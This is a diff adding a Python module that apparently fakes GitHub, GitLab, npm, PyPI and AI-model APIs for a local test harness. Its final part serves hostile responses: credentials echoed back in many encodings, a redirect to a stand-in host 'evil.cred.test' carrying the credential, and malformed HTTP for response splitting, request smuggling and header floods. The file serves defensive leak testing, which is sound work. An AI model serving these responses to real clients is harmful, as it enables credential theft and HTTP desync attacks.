@@ -1,0 +1,366 @@
+# SPDX-License-Identifier: Apache-2.0
+"""forge_apis.py - of forge.py: what each service answers
+
+As much of each as its real client asks for: gh, glab, npm, pip, and the SDKs
+of models. A function gets the request (forge.Handler) and answers it.
+"""
+import base64
+import gzip
+import hashlib
+import io
+import json
+import re
+import time
+import urllib.parse
+import zipfile
+
+REPO = {
+    "id": "R_1", "name": "one", "nameWithOwner": "otter/one",
+    "owner": {"id": "U_1", "login": "otter"}, "description": "the first one",
+    "isPrivate": True, "isFork": False, "isArchived": False, "isEmpty": False,
+    "visibility": "PRIVATE", "hasIssuesEnabled": True,
+    "hasWikiEnabled": False, "viewerPermission": "WRITE",
+    "pushedAt": "2026-01-02T03:04:05Z", "updatedAt": "2026-01-02T03:04:05Z",
+    "createdAt": "2026-01-02T03:04:05Z", "url": "https://github.com/otter/one",
+    "defaultBranchRef": {"name": "main"}, "parent": None,
+    "mergeCommitAllowed": True, "rebaseMergeAllowed": True,
+    "squashMergeAllowed": True,
+}
+
+
+# --- GitHub -----------------------------------------------------------------
+
+def graphql(h):
+    text = h.json().get("query", "")
+    if "createPullRequest" in text:
+        made = h.json()["variables"]["input"]
+        h.server.state.setdefault("pulls", []).append(made)
+        return {"createPullRequest": {"pullRequest": {
+            "id": "PR_7", "number": 7,
+            "url": "https://github.com/otter/one/pull/7"}}}
+    if "__type" in text:
+        # What gh wants to know of the server: which fields there are.
+        names = re.findall(r"(\w+) *: *__type", text)
+        return {n: {"fields": [], "enumValues": []} for n in names}
+    if "repositories(" in text:
+        page = {"nodes": [REPO], "totalCount": 1,
+                "pageInfo": {"hasNextPage": False, "endCursor": ""}}
+        return {"repositoryOwner": {"login": "otter", "repositories": page}}
+    if "pullRequests(" in text:
+        none = {"nodes": [], "totalCount": 0,
+                "pageInfo": {"hasNextPage": False, "endCursor": ""}}
+        return {"repository": dict(REPO, pullRequests=none)}
+    out = {"viewer": {"login": "otter", "id": "U_1"}}
+    for name in re.findall(r"(\w+) *: *repository\(", text):
+        out[name] = REPO
+    if re.search(r"[{\s]repository\(", text):
+        out["repository"] = REPO
+    return out
+
+
+def github(h):
+    if not h.has("github"):
+        return h.refuse()
+    scopes = {"X_OAuth_Scopes": "repo, read:org, gist"}
+    if h.route == "/graphql":
+        return h.say(200, {"data": graphql(h)}, **scopes)
+    if h.route in ("/user", "/users/otter"):
+        return h.say(200, {"login": "otter", "id": 1, "type": "User"},
+                     **scopes)
+    if h.route in ("/", "/rate_limit", "/meta"):
+        return h.say(200, {"resources": {}, "rate": {"limit": 5000,
+                                                     "remaining": 4999}},
+                     **scopes)
+    if h.route == "/repos/otter/one":
+        return h.say(200, {"id": 1, "name": "one", "node_id": "R_1",
+                           "full_name": "otter/one", "private": True,
+                           "owner": {"login": "otter"},
+                           "default_branch": "main"}, **scopes)
+    if h.command == "POST":  # what would be a token, were it let through
+        return h.say(201, {"id": 1, "key": "made"})
+    return h.say(404, {"message": "Not Found"})
+
+
+# --- GitLab -----------------------------------------------------------------
+
+def gitlab(h):
+    if not h.has("gitlab"):
+        return h.refuse()
+    project = {"id": 1, "name": "one", "path_with_namespace": "otter/one",
+               "default_branch": "main",
+               "web_url": "https://gitlab.com/otter/one",
+               "http_url_to_repo": "https://gitlab.com/otter/one.git"}
+    user = {"id": 1, "username": "otter", "name": "Otter"}
+    path = urllib.parse.unquote(h.route)
+    if path.endswith("/merge_requests"):
+        return h.say(200, [{
+            "id": 9, "iid": 3, "project_id": 1, "title": "Mend the dam",
+            "state": "opened", "source_branch": "dam",
+            "target_branch": "main", "author": user,
+            "created_at": "2026-01-02T03:04:05.000Z",
+            "references": {"full": "otter/one!3", "short": "!3"},
+            "web_url": "https://gitlab.com/otter/one/-/merge_requests/3"}],
+            X_Total="1", X_Total_Pages="1", X_Page="1", X_Per_Page="30")
+    if path in ("/api/v4/projects/otter/one", "/api/v4/projects/1"):
+        return h.say(200, project)
+    if path == "/api/v4/user":
+        return h.say(200, user)
+    if path == "/api/v4/version":
+        return h.say(200, {"version": "17.0.0", "revision": "1"})
+    if path == "/api/graphql":
+        return h.say(200, {"data": {"currentUser": user}})
+    return h.say(404, {"message": "404 Not Found"})
+
+
+# --- packages ---------------------------------------------------------------
+
+def npm(h):
+    if not h.has("npm"):
+        return h.refuse()
+    kept = h.server.state.setdefault("npm", {})
+    path = urllib.parse.unquote(h.route)[1:]
+    if path == "-/whoami":
+        return h.say(200, {"username": "otter"})
+    if h.command == "PUT":
+        sent = h.json()
+        kept.setdefault(path, {"name": path, "_id": path, "dist-tags": {},
+                               "versions": {}, "_attachments": {}})
+        for part in ("dist-tags", "versions", "_attachments"):
+            kept[path][part].update(sent[part])
+        return h.say(201, {"ok": True, "success": True})
+    name, _, tarball = path.partition("/-/")
+    if name not in kept:
+        return h.say(404, {"error": "not_found"})
+    if tarball:
+        data = kept[name]["_attachments"][tarball]["data"]
+        return h.say(200, base64.b64decode(data), "application/octet-stream")
+    return h.say(200, {k: v for k, v in kept[name].items()
+                       if k != "_attachments"})
+
+
+def wheel():
+    """A package with one module, as small as pip takes it."""
+    out = io.BytesIO()
+    info = "otterpkg-1.0.dist-info/"
+    files = {
+        "otterpkg.py": "WORD = 'splash'\n",
+        info + "METADATA": "Metadata-Version: 2.1\nName: otterpkg\n"
+                           "Version: 1.0\n",
+        info + "WHEEL": "Wheel-Version: 1.0\nGenerator: forge\n"
+                        "Root-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    files[info + "RECORD"] = "".join("%s,,\n" % x for x in files) + \
+        info + "RECORD,,\n"
+    with zipfile.ZipFile(out, "w") as z:
+        for name, text in files.items():
+            z.writestr(zipfile.ZipInfo(name), text)
+    return out.getvalue()
+
+
+def pypi(h):
+    if not h.has("pypi"):
+        return h.refuse()
+    data = wheel()
+    name = "otterpkg-1.0-py3-none-any.whl"
+    if h.command == "POST":
+        h.server.state.setdefault("pypi", []).append(len(h.body))
+        return h.say(200, b"", "text/plain")
+    if h.route == "/simple/otterpkg/":
+        return h.say(200, b'<!DOCTYPE html><a href="../../files/%s#sha256='
+                     b'%s">%s</a>' % (name.encode(), hashlib.sha256(
+                         data).hexdigest().encode(), name.encode()),
+                     "text/html")
+    if h.route == "/files/" + name:
+        return h.say(200, data, "application/octet-stream")
+    return h.say(404, b"", "text/plain")
+
+
+# --- models -----------------------------------------------------------------
+
+def events(h, parts, pause=0.02):
+    """Server-sent events, one by one."""
+    h.begin_chunks("text/event-stream")
+    for name, data in parts:
+        text = data if isinstance(data, str) else json.dumps(data)
+        h.chunk(("event: %s\n" % name if name else "") +
+                "data: %s\n\n" % text)
+        time.sleep(pause)
+    h.end_chunks()
+
+
+def anthropic(h):
+    if not h.has("anthropic"):
+        return h.refuse()
+    if h.route != "/v1/messages":
+        return h.say(200, {"data": [], "has_more": False})
+    asked = h.json()
+    message = {"id": "msg_1", "type": "message", "role": "assistant",
+               "model": asked["model"], "content": [], "stop_reason": None,
+               "stop_sequence": None,
+               "usage": {"input_tokens": 11, "output_tokens": 1,
+                         "cache_read_input_tokens": 5,
+                         "cache_creation_input_tokens": 0}}
+    if not asked.get("stream"):
+        return h.say(200, dict(
+            message, stop_reason="end_turn",
+            content=[{"type": "text", "text": "splash"}]))
+    parts = [("message_start", {"type": "message_start",
+                                "message": message}),
+             ("content_block_start", {
+                 "type": "content_block_start", "index": 0,
+                 "content_block": {"type": "text", "text": ""}})]
+    parts += [("content_block_delta", {
+        "type": "content_block_delta", "index": 0,
+        "delta": {"type": "text_delta", "text": x}})
+        for x in ("spl", "ash", "!")]
+    parts += [("content_block_stop", {"type": "content_block_stop",
+                                      "index": 0}),
+              ("message_delta", {
+                  "type": "message_delta",
+                  "delta": {"stop_reason": "end_turn",
+                            "stop_sequence": None},
+                  "usage": {"output_tokens": 23}}),
+              ("message_stop", {"type": "message_stop"})]
+    return events(h, parts)
+
+
+def openai(h):
+    if not h.has("openai"):
+        return h.refuse()
+    if h.command == "GET":
+        return h.say(200, {"object": "list", "data": []})
+    asked = h.json()
+    if h.route == "/v1/responses":
+        done = {"id": "resp_1", "object": "response", "status": "completed",
+                "model": asked["model"], "output": [],
+                "usage": {"input_tokens": 13, "output_tokens": 29,
+                          "total_tokens": 42,
+                          "input_tokens_details": {"cached_tokens": 3},
+                          "output_tokens_details": {"reasoning_tokens": 0}}}
+        return events(h, [
+            ("response.created", {"type": "response.created",
+                                  "response": dict(done, usage=None)}),
+            ("response.output_text.delta", {
+                "type": "response.output_text.delta", "delta": "splash"}),
+            ("response.completed", {"type": "response.completed",
+                                    "response": done})])
+    base = {"id": "chat_1", "object": "chat.completion.chunk", "created": 1,
+            "model": asked["model"]}
+    parts = [("", dict(base, choices=[{
+        "index": 0, "delta": {"content": x}, "finish_reason": None}]))
+        for x in ("spl", "ash")]
+    parts += [("", dict(base, choices=[], usage={
+        "prompt_tokens": 17, "completion_tokens": 31, "total_tokens": 48})),
+        ("", "[DONE]")]
+    return events(h, parts)
+
+
+def gemini(h):
+    if not h.has("gemini"):
+        return h.refuse()
+    parts = [("", {"candidates": [{"content": {
+        "role": "model", "parts": [{"text": x}]}}],
+        "usageMetadata": {"promptTokenCount": 19,
+                          "candidatesTokenCount": n,
+                          "totalTokenCount": 19 + n}})
+             for x, n in (("spl", 2), ("ash", 37))]
+    return events(h, parts)
+
+
+# --- what says back what it was sent ----------------------------------------
+
+def forms(text):
+    """Everything a client could turn back into @text."""
+    raw = text.encode()
+    out = [text, urllib.parse.quote(text, safe=""),
+           "".join("%%%02x" % c for c in raw),
+           "".join("%%%02X" % c for c in raw), json.dumps(text)[1:-1]]
+    for pad in (b"", b"x", b"xy"):
+        out.append(base64.b64encode(pad + raw).decode())
+        out.append(base64.urlsafe_b64encode(pad + raw).decode())
+    return out
+
+
+def mirrored(h):
+    """The credentials of the request in all their forms, as lines."""
+    lines = ["%s: %s" % x for x in h.headers.items()]
+    for value in h.credentials():
+        lines += forms(value)
+    return "\n".join(lines) + "\n"
+
+
+def split_up(h, text):
+    """In pieces of every small size, so that each border is met."""
+    h.begin_chunks("text/plain", Trailer="X-Last")
+    size, at = 1, 0
+    while at < len(text):
+        h.chunk(text[at:at + size])
+        at += size
+        size = size % 7 + 1
+    h.end_chunks("X-Last: " + ",".join(h.credentials()))
+
+
+def echo(h):
+    text = mirrored(h)
+    first = (h.credentials() or ["none"])[0]
+    if h.route == "/headers":
+        return h.say(200, b"ok\n", "text/plain", X_Back=first,
+                     Server_Timing="t;desc=\"%s\"" % first,
+                     Set_Cookie="s=" + first)
+    if h.route == "/redirect":
+        return h.say(302, b"", "text/plain",
+                     Location="https://evil.cred.test/?t=" + first)
+    if h.route == "/error":
+        return h.say(500, text.encode(), "text/html")
+    if h.route == "/pieces":
+        return split_up(h, text)
+    if h.route == "/gzip":
+        return h.say(200, gzip.compress(text.encode()), "text/plain",
+                     Content_Encoding="gzip")
+    if h.route == "/until-close":
+        h.send_response(200)
+        h.send_header("Connection", "close")
+        h.end_headers()
+        h.close_connection = True
+        return h.wfile.write(text.encode())
+    if h.route == "/cut":
+        h.send_response(200)
+        h.send_header("Content-Length", str(len(text) + 100))
+        h.end_headers()
+        h.close_connection = True
+        return h.wfile.write(text.encode())
+    if h.route == "/events":
+        return events(h, [("", x) for x in text.split("\n") if x])
+    if h.route == "/alt-svc":
+        return h.say(200, b"ok\n", "text/plain", Alt_Svc='h3=":443"')
+    if h.route == "/echo":
+        return h.say(200, text.encode() + h.body, "text/plain")
+    return hostile(h)
+
+
+def hostile(h):
+    """Answers that are none."""
+    raw = {
+        "/split": b"HTTP/1.1 200 OK\r\nX-A: b\nSet-Cookie: x=y\r\n"
+                  b"Content-Length: 0\r\n\r\n",
+        "/two-lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n"
+                        b"Content-Length: 5\r\n\r\nabcde",
+        "/both": b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n"
+                 b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        "/flood": b"HTTP/1.1 103 Early Hints\r\nLink: <a>\r\n\r\n" * 1000 +
+                  b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
+        "/no-content": b"HTTP/1.1 204 No Content\r\n\r\nHTTP/1.1 200 OK\r\n"
+                       b"Content-Length: 6\r\n\r\nforged",
+        "/trailers": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
+                     b"0\r\n" + b"X-T: y\r\n" * 20000 + b"\r\n",
+        "/fake-101": b"HTTP/1.1 200 OK\r\nUpgrade: websocket\r\n"
+                     b"Connection: upgrade\r\nContent-Length: 0\r\n\r\n",
+    }.get(h.route)
+    if raw is None:
+        return h.say(200, {"path": h.path, "method": h.command,
+                           "host": h.headers.get("host")})
+    h.close_connection = True
+    try:
+        return h.wfile.write(raw)
+    except OSError:
+        return None
